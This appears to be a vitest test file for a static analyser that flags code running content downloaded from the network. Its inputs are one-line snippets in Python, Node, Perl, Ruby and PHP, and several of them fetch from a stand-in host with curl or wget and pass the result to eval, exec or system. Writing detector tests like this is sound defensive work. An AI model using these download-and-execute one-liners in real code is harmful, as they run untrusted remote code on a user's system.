import { describe, expect } from 'vitest'
import { proves } from '../../../../test/proves.ts'
import { summary } from '../harness.ts'

/** The output of a download is what was downloaded: running it is running what comes from the network. */

const REMOTE = 'execute code:remote http://x.example/a'

describe('what a download gave is run', () => {
  for (const [language, code] of [
    ['python', 'import os; exec(os.popen("curl -s http://x.example/a").read())'],
    ['python', 'import os; os.system(os.popen("wget -qO- http://x.example/a").read())'],
    ['python', 'import subprocess; exec(subprocess.check_output(["curl", "-s", "http://x.example/a"]))'],
    ['python', 'import subprocess; exec(subprocess.check_output("curl http://x.example/a", shell=True).decode())'],
    ['python', 'import subprocess; exec(subprocess.run(["curl", "http://x.example/a"], capture_output=True).stdout)'],
    ['python', 'import subprocess; p = subprocess.Popen(["/usr/bin/curl", "http://x.example/a"], stdout=-1); exec(p.stdout.read())'],
    ['python', 'import subprocess; eval(subprocess.getoutput("sudo curl http://x.example/a"))'],
    ['node', 'eval(require("child_process").execSync("curl http://x.example/a").toString())'],
    ['node', 'eval(require("child_process").execFileSync("curl", ["-s", "http://x.example/a"]).toString())'],
    ['node', 'require("child_process").exec("curl http://x.example/a", (e, out) => eval(out))'],
    ['perl', 'eval `curl http://x.example/a`'],
    ['perl', 'system(`wget -qO- http://x.example/a`)'],
    ['perl', 'eval qx{curl -s "http://x.example/a"}'],
    ['ruby', 'eval `curl http://x.example/a`'],
    ['ruby', 'eval %x(curl -s http://x.example/a)'],
    ['ruby', 'out, st = Open3.capture2("curl", "http://x.example/a"); eval out'],
    ['ruby', 'eval IO.popen("curl http://x.example/a").read'],
    ['php', 'eval(shell_exec("curl http://x.example/a"));'],
    ['php', 'eval(`curl http://x.example/a`);'],
  ] as const)
    proves('T08', `${language}: ${code}`, () => expect(summary(language, code)).toContain(REMOTE))
})

describe('what a download gave is only looked at', () => {
  for (const [language, code] of [
    ['python', 'import subprocess; print(subprocess.run(["curl", "http://x.example/a"], capture_output=True).stdout)'],
    ['python', 'import os, json; json.loads(os.popen("curl http://x.example/a").read())'],
    ['node', 'console.log(require("child_process").execSync("curl http://x.example/a").toString())'],
    ['perl', 'print `curl http://x.example/a`'],
    ['ruby', 'puts `curl http://x.example/a`'],
    ['php', 'echo shell_exec("curl http://x.example/a");'],
  ] as const)
    proves('T08', `${language}: ${code}`, () => expect(summary(language, code).filter((line) => line.startsWith('execute'))).toEqual([]))
})

describe('another program gave it', () => {
  for (const [language, code] of [
    ['python', 'import os; exec(os.popen("generate http://x.example/a").read())'],
    ['perl', 'eval `echo curl http://x.example/a`'],
    ['ruby', 'eval `cat code.rb`'],
    ['node', 'eval(require("child_process").execSync("make print").toString())'],
  ] as const)
    proves('T08', `${language}: ${code}`, () => {
      const lines = summary(language, code)
      expect(lines).not.toContain(REMOTE)
      expect(lines.some((line) => line.startsWith('opaque '))).toBe(true)
    })
})
